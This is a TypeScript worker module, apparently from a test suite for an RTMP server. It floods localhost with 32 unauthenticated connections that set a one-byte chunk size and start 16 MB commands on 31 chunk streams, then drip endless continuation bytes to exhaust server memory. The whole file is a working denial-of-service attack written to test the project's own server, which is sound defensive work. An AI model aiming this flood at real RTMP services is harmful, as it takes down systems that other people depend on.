/** Strangers without a key at the RTMP port. */
import { connect, type Socket } from 'node:net';
import { serveTasks } from '../worker.ts';

/** Connections of the attacker at the same time. */
const connections = 32;

/** The client's part of the handshake (Adobe RTMP 1.0, section 5.2): C0, C1 and C2. */
const handshake = Buffer.concat([Buffer.of(3), Buffer.alloc(2 * 1_536, 7)]);
/** Set Chunk Size to 1 (section 5.4.1), as one chunk on stream 2. */
const tiniestChunks = Buffer.from('02000000000004010000000000000001', 'hex');
/** The first byte of a command of 16 MB, on each chunk stream that a basic header of one byte can name. */
const beginnings = Buffer.concat(
  Array.from({ length: 31 }, (_, place) => Buffer.from([3 + place, 0, 0, 0, 0xff, 0xff, 0xff, 20, 1, 0, 0, 0, 0])),
);
/** One more byte of each command. */
const pieces = Buffer.concat(
  Array.from({ length: 64 }, () =>
    Buffer.from(Array.from({ length: 31 }, (_, place) => [0xc0 | (3 + place), 0]).flat()),
  ),
);

const open = new Set<Socket>();
let isOn = false;

function strike(port: number): void {
  if (!isOn) return;
  const socket = connect(port, '127.0.0.1');
  open.add(socket);
  const write = () => {
    while (socket.writable && socket.write(pieces));
  };
  socket.on('connect', () => {
    socket.write(Buffer.concat([handshake, tiniestChunks, beginnings]));
    write();
  });
  socket.on('drain', write);
  socket.on('error', () => undefined);
  socket.on('close', () => {
    open.delete(socket);
    setImmediate(() => strike(port));
  });
  socket.resume();
}

const tasks = {
  begin({ port }: { readonly port: number }): void {
    isOn = true;
    for (let n = 0; n < connections; n += 1) strike(port);
  },
  end(): void {
    isOn = false;
    for (const socket of open) socket.destroy();
  },
};
export type Flood = typeof tasks;

serveTasks(tasks);
